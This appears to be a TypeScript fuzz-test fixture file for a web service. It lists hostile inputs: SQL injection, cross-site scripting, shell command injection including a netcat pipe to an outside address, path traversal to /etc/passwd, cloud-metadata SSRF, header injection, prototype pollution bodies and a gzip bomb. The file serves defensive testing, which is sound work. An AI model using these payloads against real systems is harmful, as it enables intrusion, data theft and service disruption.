import { gzipSync } from 'node:zlib';

/** Values of types that a field may not be of. */
export const otherTypes: readonly unknown[] = [
  null,
  true,
  -1,
  12.5,
  1e308,
  Number.MAX_SAFE_INTEGER,
  'text',
  '',
  [],
  [[]],
  {},
  { $gt: '' },
  [null],
];

/** Texts that do harm where somebody takes them for more than text. */
export const harmfulTexts: readonly string[] = [
  `'; drop table tenant; --`,
  `' or '1'='1`,
  `1); delete from token where (1=1`,
  `\\'; select pg_sleep(20); --`,
  `$$; copy tenant to program 'id' $$`,
  `<script>alert(1)</script>`,
  `"><img src=x onerror=alert(1)>`,
  `javascript:alert(1)`,
  '$(touch /tmp/belwacht-fuzz)',
  '`touch /tmp/belwacht-fuzz`',
  '; touch /tmp/belwacht-fuzz;',
  '| nc 192.0.2.1 1',
  `=cmd|' /C calc'!A0`,
  '@SUM(1+1)*cmd',
  '+1+1',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/dev/zero',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  'http://127.0.0.1:1/',
  'http://[::ffff:127.0.0.1]:1/',
  'a\u0000b',
  '\u0000',
  '\ud800',
  'x\udc00y\ud800',
  '\u202egpj.exe',
  '\ufeff',
  '\r\nset-cookie: a=b',
  '\r\n\r\nHTTP/1.1 200 OK',
  '%s%s%s%n',
  '{{7*7}}<%= 7*7 %>#{7*7}',
  '__proto__',
  'constructor',
  'NaN',
  '1e999',
  '0x10',
  '9999999999999999999999',
  '-0',
  '２０２６',
  '👩‍🚒'.repeat(20),
  'İı',
  'z'.repeat(5000),
  'z'.repeat(100_000),
  '9'.repeat(400),
  '2026-13-45T99:99:99Z',
  '0000-00-00',
  '+275760-09-13T00:00:00.001Z',
  '999.999.999.999',
  '0.0.0.0/0',
  '::/0',
  '203.0.113.0/33',
];

/** Parts of an address, as sent. */
export const harmfulSegments: readonly string[] = [
  '..%2f..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f%2e%2e%2f',
  '..%5c..%5cwindows%5cwin.ini',
  '%00',
  'a%00b',
  '%ff%fe',
  '%ed%a0%80',
  '%',
  '%zz',
  `%27%3b%20drop%20table%20tenant%3b--`,
  '%27%20or%20%271%27%3d%271',
  '%3Cscript%3E',
  '%24%28id%29',
  'x'.repeat(200),
  'x'.repeat(300),
  'x'.repeat(9000),
  '-1',
  '0',
  '*',
  '%20',
  '__proto__',
  'undefined',
  'null',
  '%0d%0aset-cookie%3a%20a%3db',
];

/** Bodies that are none. */
export function brokenBodies(limit: number): readonly (readonly [name: string, body: Buffer | string])[] {
  return [
    ['no JSON', 'this is no JSON'],
    ['half an object', '{"a":'],
    ['two values', '{}{}'],
    ['a comma too many', '{"a":1,}'],
    ['single quotes', `{'a':1}`],
    ['NaN', '{"a":NaN}'],
    ['a prototype', '{"__proto__":{"admin":true}}'],
    ['a constructor', '{"constructor":{"prototype":{"admin":true}}}'],
    ['a number', '1'],
    ['a text', '"text"'],
    ['a list', '[1,2,3]'],
    ['a bare word', 'true'],
    ['deep lists', '['.repeat(5000) + ']'.repeat(5000)],
    ['deep objects', `${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}`],
    ['invalid UTF-8', Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d])],
    ['UTF-16', Buffer.from('{"a":"b"}', 'utf16le')],
    ['bytes of zero', Buffer.alloc(1000)],
    ['a large number', `{"a":${'9'.repeat(10_000)}}`],
    ['more than may be', `{"a":"${'x'.repeat(limit)}"}`],
    ['many names', `{${Array.from({ length: 10_000 }, (_, i) => `"n${i}":1`).join(',')}}`],
  ];
}

/** 4 MB of zeros packed to 4 KB, as text that claims to be JSON once unpacked. */
export const packedBomb: Buffer = gzipSync(Buffer.from(`{"a":"${'0'.repeat(4_000_000)}"}`));
/** The first bytes of a zip archive whose directory claims a huge file. */
export const zipBytes: Buffer = Buffer.from(
  `504b0304140000000800000021000000000000000000ffffffff01000000${'6103000000'.repeat(4)}`,
  'hex',
);

/** The same numbers in the same order for the same seed (mulberry32): 0 ≤ n < 1. */
export function randomOf(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let n = Math.imul(state ^ (state >>> 15), state | 1);
    n ^= n + Math.imul(n ^ (n >>> 7), n | 61);
    return ((n ^ (n >>> 14)) >>> 0) / 2 ** 32;
  };
}
